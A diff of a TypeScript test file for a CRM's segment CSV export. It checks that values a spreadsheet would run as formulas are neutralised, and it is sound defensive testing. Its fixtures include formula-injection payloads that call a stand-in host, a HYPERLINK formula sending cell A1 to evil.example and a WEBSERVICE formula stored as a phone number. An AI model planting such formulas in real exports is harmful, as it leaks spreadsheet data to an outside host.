@@ -10,8 +10,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
 
 /** `GET /exports/segments/:id.csv` and text that spreadsheet programs would run as a formula. */
 describe('segment CSV export: cells a spreadsheet would run as formulas', () => {
-  let service: ServiceUnderTest;
-  let handle: ServiceHandle;
+  let service: ServiceUnderTest<ServiceHandle>;
   let admin: string;
   let ownerId: string;
   const call = (query: string, variables?: Record<string, unknown>) => service.as(admin).call(query, variables);
@@ -34,11 +33,11 @@ describe('segment CSV export: cells a spreadsheet would run as formulas', () => 
   beforeAll(async () => {
     service = await startServiceUnderTest({
       loadConfig,
-      start: async (config, logger) => (handle = await start(config, logger)),
+      start,
       env: { OPPORTUNITIES_URL: 'http://127.0.0.1:9/graphql', ACTIVITIES_URL: 'http://127.0.0.1:9/graphql' },
     });
     // An owner whose e-mail address starts with a formula character: user data like any other.
-    [{ id: ownerId }] = await handle.db.query(
+    [{ id: ownerId }] = await service.handle.db.query(
       `INSERT INTO accounts.users (email, first_name, last_name, role) VALUES ('+sales@crm.example', 'Sal', 'Es', 'ADMIN') RETURNING id`,
     );
     admin = await testToken({ userId: ownerId, role: UserRole.ADMIN });
@@ -58,8 +57,8 @@ describe('segment CSV export: cells a spreadsheet would run as formulas', () => 
     const ordinary = await createAccount({ name: 'Ordinary Household', industry: 'Fishing' });
     await createContact({ accountId: ordinary, firstName: 'Olaf', lastName: 'Ordinary', email: 'olaf@example.com', phone: '+354 555 9876' });
     // What the API refuses but the columns can hold: a negative revenue (an amount the export formats) and a formula stored as a phone number.
-    await handle.db.query(`UPDATE accounts.accounts SET annual_revenue_amount = -1500.50, annual_revenue_currency = 'ISK' WHERE id IN ($1, $2)`, [ordinary, minus]);
-    await handle.db.query(`INSERT INTO accounts.contacts (account_id, first_name, last_name, phone) VALUES ($1, 'Phil', 'Phone', '=WEBSERVICE("http://evil.example")')`, [minus]);
+    await service.handle.db.query(`UPDATE accounts.accounts SET annual_revenue_amount = -1500.50, annual_revenue_currency = 'ISK' WHERE id IN ($1, $2)`, [ordinary, minus]);
+    await service.handle.db.query(`INSERT INTO accounts.contacts (account_id, first_name, last_name, phone) VALUES ($1, 'Phil', 'Phone', '=WEBSERVICE("http://evil.example")')`, [minus]);
 
     const created = await call(`mutation($input: CreateSegmentInput!) { createSegment(input: $input) { id memberCount } }`, {
       input: { name: 'Icelandic households', rules: { all: [{ field: 'COUNTRY', operator: 'EQ', values: ['IS'] }] } },
